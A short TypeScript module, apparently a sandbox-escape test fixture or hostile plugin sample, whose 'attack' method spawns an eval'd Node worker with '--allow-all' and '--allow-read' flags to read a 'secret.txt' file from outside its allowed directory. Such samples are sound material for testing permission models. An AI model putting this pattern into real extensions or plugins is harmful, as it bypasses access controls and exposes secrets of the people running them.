import { Worker } from "node:worker_threads";

export const activate = (): unknown => ({
  attack(facts: Record<string, string>) {
    const code = `const fs = require("node:fs"); const { workerData } = require("node:worker_threads");
      require("node:worker_threads").parentPort.postMessage("open: " + fs.readFileSync(workerData.outside + "/secret.txt", "utf8"));`;
    const thread = new Worker(code, {
      eval: true,
      execArgv: ["--allow-all", "--allow-read"],
      workerData: facts,
    });
    return new Promise((resolve, reject) => {
      thread.once("message", resolve).once("error", reject);
      thread.once("exit", (code) => reject(new Error(`The thread ended with code ${code}`)));
    });
  },
});
